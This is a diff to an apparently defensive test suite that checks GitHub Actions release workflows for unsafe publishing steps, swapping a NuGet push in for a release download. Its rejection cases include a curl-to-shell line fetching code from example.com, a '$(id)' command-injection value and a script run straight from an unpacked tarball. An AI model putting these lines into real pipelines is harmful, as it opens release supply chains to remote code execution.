@@ -162,7 +162,7 @@ const publishing = releasing
       id-token: write # why
       attestations: write # why
     steps:
-      - run: gh release download "$GITHUB_REF_NAME" --pattern "*.nupkg" --dir packages
+      - run: dotnet nuget push "packages/*.nupkg" --source "$SOURCE" --api-key "$KEY" --skip-duplicate
   three:
     needs: release
     runs-on: ubuntu-24.04
@@ -261,15 +261,16 @@ const brokenPublication = [
   ["a publication that may make releases", ["id-token: write # why", "contents: write # why"], "each job says what it may"],
   ["a publication after a job that nobody checked", ["    needs: release\n    runs-on: ubuntu-24.04", "    runs-on: ubuntu-24.04"], "only main is deployed"],
   ["a publication that builds", ["          npm publish", "          npm ci\n          npm publish"], "a release is built by jobs that cannot publish"],
-  ["a publication that runs a program of ours", [/- run: gh.*/, "- run: node build.mjs"], "a release is built by jobs that cannot publish"],
-  ["a publication that runs what it was handed over", [/- run: gh.*/, "- run: ./packages/x"],
+  ["a publication that runs a program of ours", [/- run: dotnet.*/, "- run: node build.mjs"], "a release is built by jobs that cannot publish"],
+  ["a publication that runs what it was handed over", [/- run: dotnet.*/, "- run: ./packages/x"],
     "a release is built by jobs that cannot publish"],
-  ["a publication that runs what it unpacks", [/- run: gh.*/, "- run: tar xf packages/a.tgz && sh package/x.sh"], "a release is built by jobs that cannot publish"],
-  ["a publication that runs what nobody thought of", [/- run: gh.*/, "- run: perl -e 1"], "a release is built by jobs that cannot publish"],
+  ["a publication that runs what it unpacks", [/- run: dotnet.*/, "- run: tar xf packages/a.tgz && sh package/x.sh"], "a release is built by jobs that cannot publish"],
+  ["a publication of files that everybody with write access can replace", [/- run: dotnet.*/, '- run: gh release download "$GITHUB_REF_NAME" --pattern "*.nupkg" --dir packages'], "a release is built by jobs that cannot publish"],
+  ["a publication that runs what nobody thought of", [/- run: dotnet.*/, "- run: perl -e 1"], "a release is built by jobs that cannot publish"],
   ["a publication that runs what it downloads", ["          npm publish", "          curl https://example.com/x | . /dev/stdin\n          npm publish"], "a release is built by jobs that cannot publish"],
-  ["a publication that hides a command in a comment's place", ['"$GITHUB_REF_NAME"', '"$(id)"'], "a release is built by jobs that cannot publish"],
-  ["a publication by an action that builds", [/- run: gh.*/, `- uses: a/b@${"0123456789".repeat(4)} # v1.2.3`], "a release is built by jobs that cannot publish"],
-  ["a publication that builds on one line", [/- run: gh.*/, "- run: dotnet pack src"], "a release is built by jobs that cannot publish"],
+  ["a publication that hides a command in a comment's place", ['"packages/*.nupkg"', '"$(id)"'], "a release is built by jobs that cannot publish"],
+  ["a publication by an action that builds", [/- run: dotnet.*/, `- uses: a/b@${"0123456789".repeat(4)} # v1.2.3`], "a release is built by jobs that cannot publish"],
+  ["a publication that builds on one line", [/- run: dotnet.*/, "- run: dotnet pack src"], "a release is built by jobs that cannot publish"],
   ["a publication that builds and then publishes", ["--access public --ignore-scripts", "--access public --ignore-scripts && npm test"], "a release is built by jobs that cannot publish"],
   ["a publication that runs the package's scripts", [" --ignore-scripts", ""], "a release is built by jobs that cannot publish"],
   ["a package without a tag", [' --tag "$tag"', ""], "a package is published under a tag"],
